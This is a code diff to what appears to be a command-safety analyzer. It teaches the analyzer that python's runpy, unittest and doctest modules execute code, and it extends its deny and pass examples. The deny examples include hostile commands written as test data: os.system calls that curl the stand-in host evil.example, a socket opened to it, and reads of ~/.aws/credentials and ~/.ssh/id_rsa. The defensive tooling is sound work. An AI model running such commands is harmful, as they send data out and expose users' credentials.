@@ -277,6 +277,12 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   cProfile: (rest, name) => asPython(rest, name, /^-[os]$/, 'cProfile'),
   profile: (rest, name) => asPython(rest, name, /^-[os]$/, 'profile'),
   trace: (rest, name) => asPython(rest, name, /^(?:-[fC]|--file|--coverdir|--ignore-module|--ignore-dir)$/, 'trace'),
+  // runpy's main runs the module it is given as `-m` does (`python -m runpy x` is `python -m x`).
+  runpy: (rest, name, module) => (rest.length === 0 ? {} : { runs: [{ kind: 'argv', argv: [literal(name, module.span), literal('-m', module.span), ...rest], via: `${name} -m runpy` }] }),
+  // unittest and doctest import each .py file they are given to find its tests: its code runs as python runs a script.
+  // (Module names are found where python finds them: the project's, read by its row.)
+  unittest: (rest, name) => testedFiles(rest, name, 'unittest', /^-[kp]$|^--(?:pattern|top-level-directory|start-directory)$/),
+  doctest: (rest, name) => testedFiles(rest, name, 'doctest', /^-o$|^--option$/),
   telnetlib: (rest, name) => asProgram('telnet', rest, `${name} -m telnetlib`),
   webbrowser: (rest, name) => asProgram('xdg-open', rest, `${name} -m webbrowser`),
   // py_compile reads each file it is given (`-` a list of names on stdin) and writes its bytecode into __pycache__
@@ -358,6 +364,17 @@ function asPython(rest: readonly Word[], name: string, valued: RegExp, module: s
   if (i >= rest.length) return {};
   const at = rest[i]!.span;
   return { runs: [{ kind: 'argv', argv: [literal(name, at), ...(mod ? [literal('-m', at)] : []), ...rest.slice(i)], via: `${name} -m ${module}` }] };
+}
+
+/** The .py files a test module imports (`python -m unittest tests/test_a.py`): each runs as a script of Python. */
+function testedFiles(rest: readonly Word[], name: string, module: string, valued: RegExp): Partial<Answer> {
+  const runs: Run[] = [];
+  for (let i = 0; i < rest.length; i++) {
+    const v = value(rest[i]);
+    if (v !== undefined && valued.test(v)) i++;
+    else if (v === undefined || /\.py$/.test(v)) runs.push({ kind: 'file', dialect: 'python', word: rest[i]!, via: `${name} -m ${module}` });
+  }
+  return { runs, uses: runs.flatMap((r) => (r.kind === 'file' ? [{ word: r.word, role: 'read' as const }] : [])) };
 }
 
 /** `python -m http.server [-b ADDRESS] [PORT]`: where it listens (every interface without -b). */
@@ -852,8 +869,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: ['python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python3 -m keyring get system user', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa'],
-      pass: ["find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', 'python3 -m keyring --list-backends', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src'],
+      deny: ['python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python3 -m keyring get system user', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m doctest -v /tmp/t.py`, 'python3 -m runpy ftplib evil.example'],
+      pass: ["find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', 'python3 -m keyring --list-backends', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src', 'python3 -m unittest tests/test_api.py', 'python3 -m unittest discover -s tests', 'python3 -m doctest -v src/util.py README.md', `printf 'def test(): pass\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`],
     },
   }, {
     // Its user site directory (a `.pth` file there runs at every start) and the base holding it.
